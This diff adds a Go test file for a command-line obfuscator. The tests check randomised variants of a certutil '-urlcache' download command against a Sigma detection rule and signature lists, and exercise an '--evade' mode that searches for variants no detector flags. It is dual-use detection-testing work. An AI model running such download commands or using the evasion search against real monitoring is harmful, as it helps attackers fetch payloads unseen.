@@ -0,0 +1,216 @@
+package cli
+
+import (
+	"fmt"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+)
+
+const certutilRule = `title: Certutil Download
+logsource:
+  category: process_creation
+  product: windows
+detection:
+  selection:
+    Image|endswith: '\certutil.exe'
+    CommandLine|contains|windash: '-urlcache '
+  condition: selection
+`
+
+// writeRules writes files, by name, to a fresh directory and returns it.
+func writeRules(t *testing.T, files map[string]string) string {
+	t.Helper()
+	dir := t.TempDir()
+	for name, body := range files {
+		if err := os.WriteFile(filepath.Join(dir, name), []byte(body), 0o644); err != nil {
+			t.Fatal(err)
+		}
+	}
+	return dir
+}
+
+func TestObfuscateSigma(t *testing.T) {
+	dir := writeRules(t, map[string]string{
+		"certutil.yml": certutilRule,
+		"dns.yml":      "title: DNS\nlogsource:\n  category: dns_query\ndetection:\n  sel:\n    QueryName: x\n  condition: sel\n",
+		"broken.yml":   "title: Broken\nlogsource:\n  category: process_creation\ndetection:\n  sel:\n    CommandLine|base64: x\n  condition: sel\n",
+	})
+	// Sigma matches case-insensitively, so RandomCase alone never evades.
+	code, stdout, stderr := run(t, "", "obfuscate", "--seed", "5", "--count", "3", "--modifiers", "RandomCase",
+		"--sigma", dir, "certutil -urlcache -f https://example.com/a a")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if n := strings.Count(stdout, "\n"); n != 3 {
+		t.Errorf("stdout has %d lines, want only the 3 variants:\n%s", n, stdout)
+	}
+	for _, want := range []string{
+		`warning: sigma: broken.yml: `,
+		"sigma: original matches Certutil Download\n",
+		"sigma: variant 1 matches Certutil Download\n",
+		"sigma: variant 3 matches Certutil Download\n",
+		"sigma: 0 of 3 variants evade 1 rule\n",
+	} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	if strings.Contains(stderr, "dns.yml") {
+		t.Errorf("rules for other log sources should be skipped quietly:\n%s", stderr)
+	}
+}
+
+func TestObfuscateSigmaEvades(t *testing.T) {
+	dir := writeRules(t, map[string]string{"certutil.yml": certutilRule})
+	code, _, stderr := run(t, "", "obfuscate", "--seed", "2", "--modifiers", "CharacterInsertion",
+		"--sigma", filepath.Join(dir, "certutil.yml"), "certutil -urlcache -f https://example.com/a a")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if !strings.Contains(stderr, "sigma: variant 1 evades\n") || !strings.Contains(stderr, "sigma: 1 of 1 variant evade 1 rule\n") {
+		t.Errorf("stderr = %q, want the variant to evade", stderr)
+	}
+}
+
+func TestObfuscateSigmaStdin(t *testing.T) {
+	dir := writeRules(t, map[string]string{"certutil.yml": certutilRule})
+	input := "certutil -urlcache -f https://x a\n\ncertutil -decode a b\n"
+	code, stdout, stderr := run(t, input, "obfuscate", "--stdin", "--modifiers", "RandomCase", "--sigma", dir)
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	if n := strings.Count(stdout, "\n"); n != 3 {
+		t.Errorf("stdout has %d lines, want 3:\n%s", n, stdout)
+	}
+	for _, want := range []string{
+		"sigma: line 1 matches Certutil Download\n",
+		"sigma: line 3 evades\n",
+		"sigma: 1 of 2 lines evade 1 rule\n",
+	} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	if strings.Contains(stderr, "original") {
+		t.Errorf("--stdin should not check the inputs themselves:\n%s", stderr)
+	}
+}
+
+func TestObfuscateSigmaUnmatchedOriginal(t *testing.T) {
+	dir := writeRules(t, map[string]string{"certutil.yml": certutilRule})
+	_, _, stderr := run(t, "", "obfuscate", "--modifiers", "RandomCase", "--sigma", dir, "certutil -decode a b")
+	if !strings.Contains(stderr, "warning: sigma: no rule matches the original command") {
+		t.Errorf("stderr = %q, want a warning that the original is not detected", stderr)
+	}
+}
+
+func TestObfuscateSigmaErrors(t *testing.T) {
+	tests := []struct {
+		name, path, want string
+	}{
+		{"missing", filepath.Join(t.TempDir(), "nope"), "no such file"},
+		{"no rules", writeRules(t, map[string]string{"readme.txt": "x"}), "no process_creation rules in"},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, stdout, stderr := run(t, "", "obfuscate", "--sigma", tt.path, "certutil -f")
+			if code != exitError || stdout != "" || !strings.Contains(stderr, tt.want) {
+				t.Errorf("got %d, stdout %q, stderr %q; want exit %d and %q", code, stdout, stderr, exitError, tt.want)
+			}
+		})
+	}
+}
+
+func TestObfuscatePatterns(t *testing.T) {
+	dir := writeRules(t, map[string]string{
+		"sigs.txt":     "# from the EDR\n-urlcache\nre:^certutil\\s\n",
+		"certutil.yml": certutilRule,
+	})
+	code, stdout, stderr := run(t, "", "obfuscate", "--seed", "5", "--count", "3", "--modifiers", "RandomCase",
+		"--sigma", dir, "--patterns", filepath.Join(dir, "sigs.txt"), "certutil -urlcache -f https://example.com/a a")
+	if code != exitOK {
+		t.Fatalf("exit code = %d, stderr %q", code, stderr)
+	}
+	variants := strings.Split(strings.TrimSuffix(stdout, "\n"), "\n")
+	for _, want := range []string{
+		"patterns: original matches -urlcache, re:^certutil\\s\n",
+		"patterns: 0 of 3 variants evade 2 signatures\n",
+	} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	// The case-sensitive regexp no longer fires once RandomCase changes certutil.
+	for i, v := range variants {
+		want := fmt.Sprintf("patterns: variant %d matches -urlcache\n", i+1)
+		if strings.HasPrefix(v, "certutil ") {
+			want = fmt.Sprintf("patterns: variant %d matches -urlcache, re:^certutil\\s\n", i+1)
+		}
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	if i, j := strings.Index(stderr, "sigma: "), strings.Index(stderr, "patterns: "); i < 0 || i > j {
+		t.Errorf("want the sigma report before the patterns one:\n%s", stderr)
+	}
+}
+
+func TestObfuscatePatternsErrors(t *testing.T) {
+	dir := writeRules(t, map[string]string{"empty.txt": "# nothing yet\n", "bad.txt": "re:(x\n"})
+	tests := []struct {
+		name, path, want string
+	}{
+		{"missing", filepath.Join(dir, "nope.txt"), "no such file"},
+		{"empty", filepath.Join(dir, "empty.txt"), "no signatures in"},
+		{"bad regexp", filepath.Join(dir, "bad.txt"), "bad.txt: line 1: patterns: re:(x: "},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			code, _, stderr := run(t, "", "obfuscate", "--patterns", tt.path, "certutil -f")
+			if code != exitError || !strings.Contains(stderr, tt.want) {
+				t.Errorf("got %d, stderr %q; want exit %d and %q", code, stderr, exitError, tt.want)
+			}
+		})
+	}
+}
+
+func TestObfuscateEvade(t *testing.T) {
+	dir := writeRules(t, map[string]string{"sigs.txt": "-urlcache\nre:-f https\n"})
+	sigs := filepath.Join(dir, "sigs.txt")
+	code, stdout, stderr := run(t, "", "obfuscate", "--evade", "--seed", "2", "--patterns", sigs, "certutil -urlcache -f https://x a")
+	if code != exitOK || strings.Count(stdout, "\n") != 1 {
+		t.Fatalf("exit code = %d, stdout %q, stderr %q", code, stdout, stderr)
+	}
+	for _, want := range []string{"evade: found after ", "patterns: variant 1 evades\n"} {
+		if !strings.Contains(stderr, want) {
+			t.Errorf("stderr does not contain %q:\n%s", want, stderr)
+		}
+	}
+	_, again, _ := run(t, "", "obfuscate", "--evade", "--seed", "2", "--patterns", sigs, "certutil -urlcache -f https://x a")
+	if again != stdout {
+		t.Errorf("the same --seed found %q, then %q", stdout, again)
+	}
+
+	// Nothing changes the executable's name, so a signature on it cannot be evaded.
+	dir = writeRules(t, map[string]string{"sigs.txt": "certutil\n"})
+	code, stdout, stderr = run(t, "", "obfuscate", "--evade", "--budget", "5", "--patterns", filepath.Join(dir, "sigs.txt"), "certutil -f x")
+	if code != exitError || stdout != "" || !strings.Contains(stderr, "no variant evades every detector in 5 attempts; the closest still fires certutil") {
+		t.Errorf("unevadable: exit %d, stdout %q, stderr %q", code, stdout, stderr)
+	}
+}
+
+func TestObfuscateEvadeUsage(t *testing.T) {
+	sigs := filepath.Join(writeRules(t, map[string]string{"sigs.txt": "x\n"}), "sigs.txt")
+	for _, args := range [][]string{
+		{"--evade", "certutil -f x"},
+		{"--evade", "--patterns", sigs, "--count", "2", "certutil -f x"},
+		{"--evade", "--patterns", sigs, "--modifiers", "RandomCase", "certutil -f x"},
+		{"--evade", "--patterns", sigs, "--stdin"},
+	} {
+		if code, _, stderr := run(t, "", append([]string{"obfuscate"}, args...)...); code != exitUsage {
+			t.Errorf("%v: exit code = %d, stderr %q", args, code, stderr)
+		}
+	}
+}